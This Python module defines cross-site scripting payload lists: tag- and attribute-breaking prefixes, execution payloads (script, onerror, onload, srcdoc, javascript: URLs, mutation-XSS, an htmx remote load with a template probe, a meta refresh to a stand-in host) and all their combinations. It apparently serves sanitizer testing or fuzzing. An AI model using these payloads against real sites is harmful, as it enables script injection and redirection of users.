"""What attackers type into fields: ways out of where a text stands, and ways to run something from there."""

from __future__ import annotations

WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "</option>", "</code>")
WAYS_TO_RUN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<img src=//elsewhere.example/x>",
    "<p hx-get=//elsewhere.example hx-trigger=load>{{7*7}}",
    "<math><mtext><mglyph><style><img src onerror=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//elsewhere.example>",
)
EVERY = tuple(out + run for out in WAYS_OUT for run in WAYS_TO_RUN)
TEN = tuple(out + run for out, run in zip(WAYS_OUT, WAYS_TO_RUN, strict=True))
